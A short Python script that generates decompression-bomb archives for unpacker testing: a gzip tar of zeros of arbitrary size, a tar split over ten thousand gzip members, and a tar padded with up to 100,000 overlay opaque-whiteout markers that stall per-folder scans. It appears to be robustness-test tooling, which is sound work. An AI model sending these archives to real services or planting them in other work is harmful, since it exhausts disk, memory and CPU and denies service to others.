#!/usr/bin/env python3
"""Archives that are small to send and huge to unpack: bombs.py KIND FILE"""
import gzip
import struct
import subprocess
import sys
import tarfile
import io


class Zeros(io.RawIOBase):
    def __init__(self, size):
        self.left = size

    def read(self, count=-1):
        count = min(self.left, count if count >= 0 else self.left)
        self.left -= count
        return bytes(count)


def zeros(path, mebibytes):
    with tarfile.open(path, "w:gz", compresslevel=9) as tar:
        info = tarfile.TarInfo("zeros")
        info.size = mebibytes << 20
        tar.addfile(info, Zeros(info.size))


def members(path):
    """Ten thousand gzip members, the tar spread over them."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as tar:
        info = tarfile.TarInfo("spread")
        info.size = 1 << 20
        tar.addfile(info, Zeros(info.size))
    data = plain.getvalue()
    step = len(data) // 10_000 + 1
    with open(path, "wb") as out:
        for at in range(0, len(data), step):
            out.write(gzip.compress(data[at:at + step], 1))


def opaque(path, count=100_000):
    """As many opaque markers as there are files: a reader that looks through the folder for each needs forever."""
    with tarfile.open(path, "w") as tar:
        for i in range(count):
            tar.addfile(tarfile.TarInfo("d/%06d" % i))
            tar.addfile(tarfile.TarInfo("d/.wh..wh..opq"))


kind, path = sys.argv[1:3]
if kind == "zeros":
    zeros(path, int(sys.argv[3]))
elif kind == "members":
    members(path)
elif kind == "opaque":
    opaque(path, int(sys.argv[3]) if len(sys.argv) > 3 else 100_000)
